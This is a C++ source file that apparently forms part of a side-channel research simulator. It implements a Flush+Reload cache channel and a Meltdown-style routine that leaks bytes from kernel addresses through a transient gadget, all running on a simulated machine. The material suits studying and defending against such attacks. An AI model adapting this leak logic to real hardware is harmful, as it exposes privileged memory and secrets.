#include "baseline/flush_reload.h"

#include <algorithm>

using whisper::isa::Cond;
using whisper::isa::ProgramBuilder;
using whisper::isa::Reg;

namespace whisper::baseline {

namespace {

isa::Program make_flush_loop() {
  ProgramBuilder b;
  // RDI = array base: clflush all 256 lines.
  b.mov(Reg::R12, 0);
  b.label("loop");
  b.mov(Reg::R13, Reg::R12);
  b.shl(Reg::R13, 6);
  b.add(Reg::R13, Reg::RDI);
  b.clflush(Reg::R13);
  b.add(Reg::R12, 1);
  b.cmp(Reg::R12, 256);
  b.jcc(Cond::NZ, "loop");
  b.mfence();
  b.halt();
  return b.build();
}

isa::Program make_touch() {
  ProgramBuilder b;
  // RDI = array base, RBX = byte to encode.
  b.mov(Reg::R13, Reg::RBX);
  b.shl(Reg::R13, 6);
  b.add(Reg::R13, Reg::RDI);
  b.load_byte(Reg::R10, Reg::R13);
  b.halt();
  return b.build();
}

}  // namespace

FlushReloadChannel::FlushReloadChannel(os::Machine& m)
    : m_(m), reload_(core::make_fr_reload_sweep()), flush_(make_flush_loop()),
      touch_(make_touch()) {}

void FlushReloadChannel::flush_array() {
  std::array<std::uint64_t, isa::kNumRegs> regs{};
  regs[static_cast<std::size_t>(Reg::RDI)] = kProbeArrayBase;
  (void)m_.run_user(flush_, regs, -1, 100'000);
}

void FlushReloadChannel::send_byte(std::uint8_t byte) {
  std::array<std::uint64_t, isa::kNumRegs> regs{};
  regs[static_cast<std::size_t>(Reg::RDI)] = kProbeArrayBase;
  regs[static_cast<std::size_t>(Reg::RBX)] = byte;
  (void)m_.run_user(touch_, regs, -1, 10'000);
}

std::vector<std::uint64_t> FlushReloadChannel::last_latencies() const {
  std::vector<std::uint64_t> lat(256);
  for (std::size_t i = 0; i < 256; ++i)
    lat[i] = m_.peek64(kReloadBufBase + i * 8);
  return lat;
}

int FlushReloadChannel::receive_byte() {
  std::array<std::uint64_t, isa::kNumRegs> regs{};
  regs[static_cast<std::size_t>(Reg::RDI)] = kProbeArrayBase;
  regs[static_cast<std::size_t>(Reg::RSI)] = kReloadBufBase;
  (void)m_.run_user(reload_, regs, -1, 500'000);

  const std::vector<std::uint64_t> lat = last_latencies();
  const auto min_it = std::min_element(lat.begin(), lat.end());
  const auto max_it = std::max_element(lat.begin(), lat.end());
  // A hit must stand out against the flushed lines.
  if (*max_it < *min_it + 30) return -1;
  return static_cast<int>(min_it - lat.begin());
}

stats::ChannelReport FlushReloadChannel::transmit(
    std::span<const std::uint8_t> bytes) {
  const std::uint64_t start = m_.core().cycle();
  std::vector<std::uint8_t> received;
  received.reserve(bytes.size());
  for (std::uint8_t b : bytes) {
    flush_array();
    m_.advance_time(
        static_cast<std::uint64_t>(m_.config().channel_sync_cycles));
    send_byte(b);
    const int got = receive_byte();
    received.push_back(got < 0 ? 0 : static_cast<std::uint8_t>(got));
  }
  return stats::evaluate_channel(bytes, received,
                                 m_.core().cycle() - start,
                                 m_.config().ghz);
}

MeltdownFlushReload::MeltdownFlushReload(os::Machine& m, Options opt)
    : m_(m), channel_(m),
      gadget_(core::make_meltdown_fr_gadget(
          opt.window.value_or(core::preferred_window(m.config())))) {}

std::uint8_t MeltdownFlushReload::leak_byte(std::uint64_t kvaddr) {
  channel_.flush_array();

  std::array<std::uint64_t, isa::kNumRegs> regs{};
  regs[static_cast<std::size_t>(Reg::RCX)] = kvaddr;
  regs[static_cast<std::size_t>(Reg::RDI)] = kProbeArrayBase;
  (void)m_.run_user(gadget_.prog, regs, gadget_.signal_handler, 100'000);

  const int got = channel_.receive_byte();
  return got < 0 ? 0 : static_cast<std::uint8_t>(got);
}

std::vector<std::uint8_t> MeltdownFlushReload::leak(std::uint64_t kvaddr,
                                                    std::size_t len) {
  std::vector<std::uint8_t> out;
  out.reserve(len);
  for (std::size_t i = 0; i < len; ++i) out.push_back(leak_byte(kvaddr + i));
  return out;
}

}  // namespace whisper::baseline
